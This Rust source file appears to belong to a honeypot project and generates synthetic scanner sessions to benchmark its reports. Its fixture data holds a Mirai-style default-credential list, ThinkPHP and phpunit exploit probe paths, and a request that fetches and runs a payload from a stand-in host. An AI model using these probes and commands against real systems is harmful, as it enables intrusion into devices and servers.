//! `honeyport bench-data`: a realistic synthetic store for benchmarking the reports.
//!
//! Sessions are spread over `days` UTC days ending yesterday, written through the sensor's own
//! store writer (so events, summary rows and rollups are exactly what a sensor would store),
//! on SQLite or any other backend:
//!
//! - ports: Zipf-distributed over the ports scanners favour (telnet, SSH, HTTP, SMB, RDP, ...),
//!   then a long tail of random ports;
//! - sources: Zipf-distributed over a pool of public-looking addresses (a few very busy
//!   scanners, a long tail seen once or twice);
//! - targets: the addresses of a /26 of sensors;
//! - what each session did follows its port: telnet and SSH ports get brute forcing (one to
//!   three credentials from a Mirai-style list, now and then a shell with the busybox check),
//!   HTTP ports get requests, others a protocol guess or silence;
//! - port 26 starts rising in the middle of the window (the ISC diary's story), going from a
//!   trickle to a top-10 port with telnet bots, a few SSH scanners and SMTP probes.
//!
//! Deterministic for a given `seed`.

use std::net::{IpAddr, Ipv4Addr};

use honeyport_event::{EndReason, Event, EventKind, Payload, SessionId, Timestamp, Transport};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use crate::store::{Location, WriterOptions};

/// A Zipf(s) distribution over ranks `0..n`, by its cumulative table.
struct Zipf {
    cdf: Vec<f64>,
}

impl Zipf {
    fn new(n: usize, s: f64) -> Zipf {
        let mut cdf = Vec::with_capacity(n);
        let mut total = 0.0;
        for k in 1..=n {
            total += 1.0 / (k as f64).powf(s);
            cdf.push(total);
        }
        for c in &mut cdf {
            *c /= total;
        }
        Zipf { cdf }
    }

    fn sample(&self, rng: &mut StdRng) -> usize {
        let u: f64 = rng.random();
        self.cdf.partition_point(|&c| c < u).min(self.cdf.len() - 1)
    }
}

/// The ports scanners favour, busiest first (roughly ISC's usual top ports).
const HOT_PORTS: &[u16] = &[
    23, 22, 80, 443, 445, 3389, 8080, 2323, 5555, 6379, 8443, 1433, 3306, 21, 25, 5900, 8000, 8888,
    81, 37215, 52869, 7547, 9200, 2375, 11211, 5060, 1723, 111, 135, 139, 110, 143, 993, 995, 587,
    465, 53, 123, 161, 1900, 8081, 8088, 9000, 10000, 4567, 8291, 60001, 49152, 5000, 5001,
];

/// What a port's clients speak.
fn protocol_of(port: u16) -> &'static str {
    match port {
        23 | 2323 | 26 => "telnet",
        22 | 2222 => "ssh",
        80 | 8080 | 8000 | 8888 | 81 | 8081 | 8088 | 9000 | 10000 | 5000 | 5001 | 7547 | 37215
        | 52869 | 9200 | 2375 | 60001 | 49152 => "http",
        443 | 8443 | 993 | 995 | 465 => "tls",
        25 | 587 => "smtp",
        21 => "ftp",
        6379 => "redis",
        3389 => "rdp",
        445 | 139 => "smb2",
        1433 => "tds",
        5060 => "sip",
        _ => "unknown_binary",
    }
}

const PAIRS: &[(&str, &str)] = &[
    ("root", "xc3511"),
    ("root", "vizxv"),
    ("admin", "admin"),
    ("root", "admin"),
    ("root", "888888"),
    ("root", "xmhdipc"),
    ("root", "default"),
    ("root", "juantech"),
    ("root", "123456"),
    ("root", "54321"),
    ("support", "support"),
    ("root", ""),
    ("admin", "password"),
    ("root", "root"),
    ("root", "12345"),
    ("user", "user"),
    ("admin", ""),
    ("root", "pass"),
    ("admin", "admin1234"),
    ("root", "1111"),
];

const REQUESTS: &[&str] = &[
    "/",
    "/.env",
    "/favicon.ico",
    "/robots.txt",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/boaform/admin/formLogin",
    "/GponForm/diag_Form?images/",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.66/jaws;sh+/tmp/jaws",
];

const AGENTS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Hello, World",
];

/// What `generate` wrote.
#[derive(Debug, Default, Clone)]
pub struct Written {
    pub sessions: u64,
    pub events: u64,
    /// Where they went.
    pub location: String,
}

/// Writes `sessions` synthetic sessions over `days` days ending yesterday (UTC) into the
/// store at `store`. `progress` is called now and then with the sessions written so far.
pub fn generate(
    store: &Location,
    sessions: u64,
    days: u32,
    seed: u64,
    mut progress: impl FnMut(u64),
) -> anyhow::Result<Written> {
    let mut sink = crate::store::open_writer(
        store,
        WriterOptions {
            synchronous_full: false,
            bulk: true,
        },
    )?;
    let mut rng = StdRng::seed_from_u64(seed);
    let days = days.max(1);
    let today = crate::store::day_of(chrono::Utc::now().timestamp_micros());
    let first_day = today - i64::from(days);
    // The rest of the port list: random ports after the hot ones.
    let mut ports: Vec<u16> = HOT_PORTS.to_vec();
    while ports.len() < 2000 {
        let p: u16 = rng.random_range(1..=65535);
        if !ports.contains(&p) && p != 26 {
            ports.push(p);
        }
    }
    let port_rank = Zipf::new(ports.len(), 1.1);
    // Sources: a pool about a tenth of the sessions (at least 1000), Zipf-busy.
    let pool = ((sessions / 10).clamp(1000, 4_000_000)) as usize;
    let sources: Vec<u32> = (0..pool)
        .map(|_| loop {
            let a: u32 = rng.random();
            let first = a >> 24;
            // Public-looking: not 0/8, 10/8, 127/8, multicast and above.
            if !matches!(first, 0 | 10 | 127) && first < 224 {
                break a;
            }
        })
        .collect();
    let source_rank = Zipf::new(pool, 1.05);
    let rise_from = first_day + i64::from(days / 2);
    // Sessions per day: a steady base with weekly wobble, plus port 26's rise.
    let weights: Vec<f64> = (0..i64::from(days))
        .map(|d| 1.0 + 0.15 * ((d % 7) as f64 / 6.0))
        .collect();
    let total_w: f64 = weights.iter().sum();
    let mut written = Written {
        location: sink.location(),
        ..Written::default()
    };
    let mut batch: Vec<Event> = Vec::with_capacity(8192);
    let mut counter: u32 = 0;
    for (d, w) in weights.iter().enumerate() {
        let day = first_day + d as i64;
        let n_day = ((sessions as f64) * w / total_w).round() as u64;
        // Port 26 after the rise: up to a few percent of the day's sessions.
        let rise = if day >= rise_from {
            let t = (day - rise_from) as f64 / f64::from(days.max(2) / 2).max(1.0);
            (0.001 + 0.04 * t.min(1.0)).min(0.05)
        } else {
            0.0005
        };
        for i in 0..n_day {
            if written.sessions >= sessions {
                break;
            }
            let port = if rng.random::<f64>() < rise {
                26
            } else {
                ports[port_rank.sample(&mut rng)]
            };
            let src = if port == 26 && day >= rise_from {
                // The port-26 bots: a fresh botnet's sources, mostly new addresses.
                sources[rng.random_range(0..pool)]
            } else {
                sources[source_rank.sample(&mut rng)]
            };
            let secs = (i * 86_400 / n_day.max(1)) as i64;
            let ts =
                (day * 86_400 + secs) * 1_000_000 + i64::from(rng.random_range(0..1_000_000u32));
            counter = counter.wrapping_add(1);
            let id = SessionId::from_u64(((ts / 1_000_000) as u64) << 32 | u64::from(counter));
            let dst = IpAddr::V4(Ipv4Addr::new(192, 0, 2, rng.random_range(0..64)));
            let n = session_events(
                &mut batch,
                &mut rng,
                id,
                ts,
                IpAddr::V4(Ipv4Addr::from(src)),
                dst,
                port,
            );
            written.sessions += 1;
            written.events += n;
            if batch.len() >= 8000 {
                sink.write(&batch)?;
                batch.clear();
                progress(written.sessions);
            }
        }
    }
    if !batch.is_empty() {
        sink.write(&batch)?;
    }
    progress(written.sessions);
    Ok(written)
}

/// Appends one session's events; returns how many.
fn session_events(
    out: &mut Vec<Event>,
    rng: &mut StdRng,
    id: SessionId,
    ts: i64,
    src: IpAddr,
    dst: IpAddr,
    port: u16,
) -> u64 {
    let proto = protocol_of(port);
    let udp = matches!(port, 53 | 123 | 161 | 1900 | 5060 | 11211);
    let start = out.len();
    let mut t = ts;
    let mut push = |out: &mut Vec<Event>, kind: EventKind| {
        t += 1000;
        out.push(Event {
            v: honeyport_event::SCHEMA_VERSION,
            timestamp: Timestamp::from_unix_micros(t).unwrap_or_else(Timestamp::now),
            sensor: "bench".into(),
            session: id.clone(),
            transport: if udp { Transport::Udp } else { Transport::Tcp },
            src_ip: src,
            src_port: rng_port(t),
            dst_ip: dst,
            dst_port: port,
            kind,
        });
    };
    push(
        out,
        EventKind::Connect {
            listener: "bench".into(),
            persona: proto.into(),
            tls: proto == "tls",
        },
    );
    let silent = rng.random::<f64>() < 0.25;
    let mut bytes_in = 0;
    if !silent {
        match proto {
            "telnet" | "ssh" => {
                if proto == "ssh" {
                    push(
                        out,
                        EventKind::ClientVersion {
                            version: Payload(
                                if rng.random::<f64>() < 0.6 {
                                    "SSH-2.0-Go"
                                } else {
                                    "SSH-2.0-libssh_0.9.6"
                                }
                                .into(),
                            ),
                        },
                    );
                }
                let tries = rng.random_range(1..=3);
                for _ in 0..tries {
                    let (u, p) = PAIRS[rng.random_range(0..PAIRS.len())];
                    let ok = p == "xc3511";
                    let (username, password) = (Payload(u.into()), Payload(p.into()));
                    let method = if proto == "ssh" {
                        "ssh-password"
                    } else {
                        "telnet"
                    };
                    push(
                        out,
                        if ok {
                            EventKind::LoginSuccess {
                                username,
                                password,
                                method: method.into(),
                            }
                        } else {
                            EventKind::LoginFailed {
                                username,
                                password,
                                method: method.into(),
                            }
                        },
                    );
                    if ok {
                        for cmd in ["enable", "system", "shell", "sh", "/bin/busybox ECCHI"] {
                            push(
                                out,
                                EventKind::CommandInput {
                                    input: Payload(cmd.into()),
                                    recognised: cmd != "/bin/busybox ECCHI",
                                },
                            );
                        }
                        break;
                    }
                }
                bytes_in = 40;
            }
            "http" => {
                let target = REQUESTS[rng.random_range(0..REQUESTS.len())];
                let agent = AGENTS[rng.random_range(0..AGENTS.len())];
                push(
                    out,
                    EventKind::HttpRequest {
                        method: Payload(b"GET".to_vec()),
                        target: Payload(target.into()),
                        version: "HTTP/1.1".into(),
                        headers: vec![
                            (
                                Payload(b"Host".to_vec()),
                                Payload(dst.to_string().into_bytes()),
                            ),
                            (Payload(b"User-Agent".to_vec()), Payload(agent.into())),
                        ],
                        body_len: 0,
                        user_agent: Some(Payload(agent.into())),
                    },
                );
                bytes_in = 120;
            }
            _ => bytes_in = 16,
        }
    }
    push(
        out,
        EventKind::Classified {
            protocol: if silent { "silent" } else { proto }.into(),
            client_first: !silent && !matches!(proto, "telnet" | "ssh" | "smtp" | "ftp"),
            after_banner: None,
        },
    );
    push(
        out,
        EventKind::Closed {
            duration: 1.5,
            bytes_in,
            bytes_out: 64,
            reason: EndReason::PeerClosed,
            limit: None,
        },
    );
    (out.len() - start) as u64
}

/// A plausible ephemeral source port, derived from the time (no extra randomness needed).
fn rng_port(t: i64) -> u16 {
    32768 + (t.rem_euclid(28000)) as u16
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn zipf_favours_the_first_ranks() {
        let z = Zipf::new(100, 1.1);
        let mut rng = StdRng::seed_from_u64(1);
        let mut counts = [0u32; 100];
        for _ in 0..20_000 {
            counts[z.sample(&mut rng)] += 1;
        }
        assert!(counts[0] > counts[1] && counts[1] > counts[9] && counts[9] > counts[99]);
    }

    #[test]
    fn a_small_store_has_the_sessions_asked_for_and_port_26_rises() {
        let dir = tempfile::tempdir().unwrap();
        let loc = Location::Sqlite(dir.path().to_path_buf());
        let w = generate(&loc, 20_000, 60, 7, |_| {}).unwrap();
        assert_eq!(w.sessions, 20_000);
        let r = crate::store::open_reader(&loc).unwrap();
        let n = r
            .sessions(
                crate::store::Scope::Fleet,
                crate::store::Window {
                    since: -1_000_000,
                    until: 1_000_000,
                },
                &Default::default(),
                usize::MAX >> 2,
            )
            .unwrap()
            .len();
        assert_eq!(n, 20_000);
        let (first, last) = r.day_range(crate::store::Scope::Fleet).unwrap().unwrap();
        let all = r
            .ports_in_window(
                crate::store::Scope::Fleet,
                crate::store::Window {
                    since: first,
                    until: last,
                },
            )
            .unwrap();
        assert_eq!(all.iter().map(|p| p.records).sum::<i64>(), 20_000);
        // Port 26: far more in the second half than in the first.
        let days26 = r
            .port_days(crate::store::Scope::Fleet, 26, first, last)
            .unwrap();
        let half = |late: bool| -> i64 {
            days26
                .iter()
                .filter(|d| (d.day >= first + 30) == late)
                .map(|d| d.records)
                .sum()
        };
        let half = |cmp: &str| half(cmp == ">=");
        assert!(
            half(">=") > 10 * half("<").max(1),
            "{} vs {}",
            half(">="),
            half("<")
        );
    }
}
